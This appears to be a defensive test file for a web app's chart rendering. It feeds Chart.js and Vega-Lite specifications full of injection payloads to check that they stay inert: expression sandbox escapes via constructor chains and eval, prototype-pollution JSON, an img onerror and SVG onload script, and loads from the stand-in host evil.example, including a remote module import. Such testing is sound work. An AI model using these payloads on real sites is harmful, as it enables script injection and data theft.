// Charts hold texts and options that try to become code.
import { test } from "node:test";
import { attack, linksTo } from "./attack.mjs";
import { all, beginning, chunks, modes, titles } from "./corpora.mjs";

// Charts as Chart.js and Vega-Lite take them, with a text in every place that has one.
const chartOf = (texts) => ({
  type: "bar",
  title: texts[0],
  data: {
    labels: texts,
    datasets: texts.slice(0, 8).map((text, i) => ({
      label: text,
      data: texts.map((_, place) => place + i),
      backgroundColor: text,
      borderColor: [text, `url(${text})`],
      stack: text,
      yAxisID: text,
      pointStyle: text,
      [beginning(text, 60)]: text,
    })),
  },
  options: {
    onClick: "executed()",
    onHover: "function () { executed(); }",
    [texts[1]]: texts[2],
    plugins: {
      title: { display: true, text: texts },
      legend: { position: texts[0], onClick: "executed()", labels: { generateLabels: "executed()" } },
      tooltip: { external: "executed()", callbacks: { label: "executed()", title: texts[3] } },
      [texts[4]]: { beforeInit: "executed()" },
    },
    scales: {
      x: { title: { display: true, text: texts[5] }, ticks: { callback: "executed()" } },
      [`y${texts[6]}`]: { type: texts[7], title: { display: true, text: texts[7] } },
    },
  },
});
const pollution = [
  `{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}`,
  `{"scales": {"__proto__": {"polluted": 1}, "constructor": {"axis": "y"}, "prototype": {"axis": "x"}}}`,
  `{"plugins": {"__proto__": {"polluted": 1, "legend": {"polluted": 1}}, "legend": {"__proto__": {"polluted": 1}}}}`,
].map((options) => ({
  type: "line",
  labels: ["__proto__", "constructor"],
  datasets: JSON.parse(
    `[{"label": "__proto__", "data": [1, 2], "__proto__": {"polluted": 1}}, {"label": "toString", "data": {"__proto__": 1}}]`,
  ),
  options: JSON.parse(options),
}));

const drawn = (page) => page.locator(".chart-frame canvas, .chart-problem").first().waitFor();

const schema = "https://vega.github.io/schema/vega-lite/v5.json";
const specification = (more, values = [{ a: "x", b: 1 }]) => ({
  $schema: schema,
  data: { values },
  mark: "bar",
  encoding: { x: { field: "a", type: "nominal" }, y: { field: "b", type: "quantitative" } },
  ...more,
});
const specificationOf = (texts) => ({
  ...specification(
    {
      title: { text: texts, subtitle: texts[0], href: texts[1] },
      description: texts[2],
      mark: { type: "bar", tooltip: true, href: texts[3], description: texts[4], cursor: texts[5] },
      usermeta: { embedOptions: { patch: texts[6], sourceHeader: texts[7], loader: { target: texts[8] } } },
    },
    texts.map((text, b) => ({ a: text, b, u: text, [beginning(text, 60)]: text })),
  ),
  encoding: {
    x: { field: "a", type: "nominal", title: texts[9], axis: { labelExpr: "datum.label" } },
    y: { field: "b", type: "quantitative" },
    color: { field: "u", legend: { title: texts[10] } },
    href: { field: "u" },
    url: { field: "u" },
    tooltip: [{ field: "u", title: texts[11] }],
  },
});
// Ways out of an expression, to the page or to another host.
const expressions = [
  "executed()",
  "window.executed()",
  "this.executed()",
  "[].constructor.constructor('executed()')()",
  "''.sub.constructor('executed()')()",
  "datum['const' + 'ructor']['constructor']('executed()')()",
  "datum.__proto__.constructor.constructor('executed()')()",
  "toString.constructor.call(1, 'executed()')()",
  "({}).constructor.defineProperty",
  "event.view.executed()",
  "event.view.constructor.constructor('executed()')()",
  "event.target.ownerDocument.defaultView.executed()",
  "item().context.view.constructor('executed()')",
  "(function () { executed() })()",
  "(() => executed())()",
  "`${executed()}`",
  "new Function('executed()')()",
  "eval('executed()')",
  "import('//evil.example/x.js')",
  "setdata('x', executed())",
  "replace('x', 'x', executed)",
  "map([1], executed)",
  "datum.a = executed()",
  "modify('source_0', [{toString: executed}], true, null, null)",
  "vlSelectionTest('x', {valueOf: executed})",
  "format(1, {toString: executed})",
  "warn(executed())",
  "containerSize().constructor.constructor('executed()')()",
  "pluck([{}], 'constructor').constructor.constructor('executed()')()",
];
const vegaLite = [
  ...expressions.map((calculate) => specification({ transform: [{ calculate, as: "c" }] })),
  specification({ params: expressions.map((expr, i) => ({ name: `p${i}`, expr })) }),
  specification({ params: [{ name: "p", bind: { element: "body", input: "text" }, value: 1 }] }),
  specification({ params: [{ name: "p", bind: { input: "<img src=x onerror=executed()>" }, value: "x" }] }),
  specification({ params: [{ name: "p", select: { type: "point", on: "window:mousemove[executed()]" } }] }),
  specification({ datasets: JSON.parse(`{"__proto__": [{"polluted": 1}]}`), data: { name: "__proto__" } }),
  specification({
    config: JSON.parse(`{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}`),
  }),
  specification({ mark: { type: "image", url: "https://evil.example/x.png", width: 50, height: 50 } }),
  specification({
    mark: {
      type: "image",
      url: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="executed()"/>`,
      width: 50,
      height: 50,
    },
  }),
  specification({ mark: { type: "text", text: "x", font: "x; background: url(https://evil.example/x)" } }),
  specification({ background: { expr: "executed()" } }),
  specification({ view: { cursor: "url(https://evil.example/x), auto" } }),
];

for (const [mode, isPolicyOff] of modes) {
  test(`texts and options of charts stay data ${mode}`, async () => {
    const urls = await linksTo("charts", () =>
      [...chunks(all, 160).map(chartOf), ...pollution].map((content, i) => ({
        template: "chart",
        title: titles[i],
        content,
      })),
    );
    await attack(urls, isPolicyOff, drawn);
  });

  test(`Vega-Lite specifications reach nothing but their data ${mode}`, async () => {
    const urls = await linksTo("vega-lite", () =>
      [...chunks(all, 100).map(specificationOf), ...vegaLite].map((content) => ({
        template: "chart",
        content,
      })),
    );
    await attack(urls, isPolicyOff, async (page) => {
      await drawn(page);
      const canvas = page.locator(".chart-frame canvas").first();
      if (!(await canvas.count())) return;
      await canvas.scrollIntoViewIfNeeded();
      const { x, y, width, height } = await canvas.boundingBox();
      for (const part of [0.3, 0.5, 0.7]) await page.mouse.click(x + width * part, y + height * 0.7);
    });
  });
}
